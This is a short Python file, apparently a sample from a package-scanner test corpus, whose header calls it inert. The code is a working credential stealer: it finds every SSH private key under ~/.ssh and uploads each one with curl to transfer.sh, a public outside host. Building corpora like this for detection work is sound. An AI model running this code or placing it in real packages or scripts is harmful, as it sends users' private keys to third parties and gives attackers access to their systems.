# pkgguard corpus 069 (credentials), modelled on [taxonomy]; inert, never run.
import glob
import os
import subprocess

for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    subprocess.run(["curl", "-s", "--upload-file", path, "https://transfer.sh/" + os.path.basename(path)])
